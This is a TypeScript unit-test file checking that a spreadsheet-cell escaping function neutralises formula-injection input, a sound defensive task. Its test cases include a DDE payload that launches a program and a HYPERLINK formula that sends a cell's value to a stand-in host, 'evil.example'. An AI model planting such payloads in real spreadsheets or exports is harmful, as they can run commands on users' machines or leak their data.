import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { escapeFormula, unescapeFormula } from './escape-formula.ts'
import { runs } from '#contract/testing/runs.ts'

describe('a cell for a spreadsheet', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '＝1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"see")',
    '-2+3+cmd|x',
    '@=1',
    "'=1",
  ])('does not begin a formula: %j', (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`)
    expect(unescapeFormula(escapeFormula(text))).toBe(text)
  })

  it.each(['', 'a=1', '1-1', "'tis the season", '(=1)', '"=1"', '<g1>=1</g1>'])('stays as it is: %j', (text) => {
    expect(escapeFormula(text)).toBe(text)
    expect(unescapeFormula(text)).toBe(text)
  })

  it('can always be read back', () => {
    const unit = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '＝')
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 6 }), (text) => {
        expect(unescapeFormula(escapeFormula(text))).toBe(text)
        expect(escapeFormula(text)).not.toMatch(/^\s*[=+\-@＝]|^[\t\r\n]/)
      }),
      { numRuns: runs(2000) },
    )
  })
})
